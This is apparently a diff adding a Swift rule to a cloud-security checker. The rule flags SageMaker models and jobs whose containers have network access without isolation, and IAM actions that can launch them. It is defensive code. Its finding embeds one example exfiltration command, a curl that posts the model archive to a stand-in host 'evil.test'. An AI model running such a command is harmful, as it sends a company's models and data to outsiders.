@@ -1,0 +1,122 @@
+import CordonModel
+
+/// A container of a model or job with a network.
+struct IsolationRoute: Route {
+  let name = "job-isolation"
+  let path = EgressPath.modelExport
+  let title = "a model's or job's container sends what it holds over a network"
+  let documentation = RouteDocumentation(
+    """
+    Containers of jobs and models run what their author put in them. Without a VPC they stand in SageMaker's own network, \
+    which has the internet; with network isolation they have none.
+    """,
+    closedBy: ["EnableNetworkIsolation", "a VpcConfig in a network without a way out"],
+    notClosedBy: [
+      "limiting who may call SageMaker by a service control policy: whoever may, starts it with a network",
+      "naming a subnet in a condition without asking for its value", "encryption between containers",
+    ])
+
+  /// Where each type says whether its container has a network, and which.
+  private static let places: [(type: String, isolation: [String], network: [String])] = [
+    ("AWS::SageMaker::Model", ["EnableNetworkIsolation"], ["VpcConfig"]),
+    (
+      "AWS::SageMaker::ProcessingJob", ["NetworkConfig", "EnableNetworkIsolation"],
+      ["NetworkConfig", "VpcConfig"]
+    ),
+    (
+      "AWS::SageMaker::MonitoringSchedule",
+      ["MonitoringScheduleConfig", "MonitoringJobDefinition", "NetworkConfig", "EnableNetworkIsolation"],
+      ["MonitoringScheduleConfig", "MonitoringJobDefinition", "NetworkConfig", "VpcConfig"]
+    ),
+    (
+      "AWS::SageMaker::DataQualityJobDefinition", ["NetworkConfig", "EnableNetworkIsolation"],
+      ["NetworkConfig", "VpcConfig"]
+    ),
+    (
+      "AWS::SageMaker::ModelQualityJobDefinition", ["NetworkConfig", "EnableNetworkIsolation"],
+      ["NetworkConfig", "VpcConfig"]
+    ),
+    (
+      "AWS::SageMaker::ModelBiasJobDefinition", ["NetworkConfig", "EnableNetworkIsolation"],
+      ["NetworkConfig", "VpcConfig"]
+    ),
+    (
+      "AWS::SageMaker::ModelExplainabilityJobDefinition", ["NetworkConfig", "EnableNetworkIsolation"],
+      ["NetworkConfig", "VpcConfig"]
+    ),
+    ("AWS::SageMaker::Cluster", ["EnableNetworkIsolation"], ["VpcConfig"]),
+  ]
+
+  func judge(_ scene: Scene) -> Judgement {
+    let estate = scene.estate
+    var judgement = Judgement()
+    for place in Self.places {
+      for resource in estate.all(place.type) {
+        if place.type.hasSuffix("Schedule"),
+          resource["MonitoringScheduleConfig", "MonitoringJobDefinitionName"] != nil
+        {
+          continue
+        }
+        judge(resource, place.isolation, place.network, estate, &judgement)
+      }
+    }
+    judgement.add(Self.withoutNetworkOfOurs, scene)
+    judgement.add(Self.unkeyed, scene)
+    return judgement
+  }
+
+  private func judge(
+    _ resource: CloudResource, _ isolation: [String], _ network: [String], _ estate: CloudEstate,
+    _ judgement: inout Judgement
+  ) {
+    let name = "\(resource.id)"
+    let isolated = estate.bool(resource.properties[path: isolation])
+    if isolated.value == true {
+      judgement.add(.closed(name, HeldControl(resource, layer: "network isolation", property: isolation)))
+      return
+    }
+    if !isolated.unknowns.isEmpty {
+      judgement.add(.unknown(name, isolated.unknowns, resource))
+      return
+    }
+    guard resource.properties[path: network] != nil else {
+      judgement.add(
+        .open(
+          name,
+          RouteWitness(
+            "curl --data-binary @/opt/ml/model/model.tar.gz https://evil.test/  # in the container's entry point",
+            story:
+              "The container of \(name) stands in SageMaker's network and sends its model and its input out.",
+            fix: "set EnableNetworkIsolation to true", at: resource, isolation[0])))
+      return
+    }
+    judgement.lose("the container of \(name) has a network: only the network's own walls hold", resource)
+    judgement.add(.closed(name, HeldControl(resource, layer: "a network of ours", property: network)))
+  }
+
+  /// Calls that name a VPC: without one, the job has the internet.
+  private static let withoutNetworkOfOurs = RolePower(
+    actions: [
+      "sagemaker:CreateTrainingJob", "sagemaker:CreateProcessingJob",
+      "sagemaker:CreateHyperParameterTuningJob",
+      "sagemaker:CreateModel", "sagemaker:CreateMonitoringSchedule", "sagemaker:UpdateMonitoringSchedule",
+      "sagemaker:CreateDataQualityJobDefinition", "sagemaker:CreateModelQualityJobDefinition",
+      "sagemaker:CreateModelBiasJobDefinition", "sagemaker:CreateModelExplainabilityJobDefinition",
+      "sagemaker:CreateAutoMLJob", "sagemaker:CreateAutoMLJobV2", "sagemaker:CreateCluster",
+    ],
+    consequence:
+      "a job without a VPC and without isolation stands in SageMaker's network, which has the internet.",
+    demands: [("sagemaker:NetworkIsolation", "Bool", ["true"], false, false)],
+    absent: ["sagemaker:VpcSubnets", "sagemaker:VpcSecurityGroupIds"])
+
+  /// Calls that start containers or apps and have no key for their network.
+  private static let unkeyed = RolePower(
+    actions: [
+      "sagemaker:CreateLabelingJob", "sagemaker:CreateInferenceRecommendationsJob",
+      "sagemaker:CreateOptimizationJob", "sagemaker:CreatePartnerApp", "sagemaker:CreateFlowDefinition",
+      "sagemaker:CreateEdgeDeploymentPlan", "sagemaker:CreateMlflowTrackingServer",
+      "sagemaker:CreatePipeline",
+      "sagemaker:UpdatePipeline",
+    ],
+    consequence: "what it starts is not bound to a network of ours by any condition key.")
+}
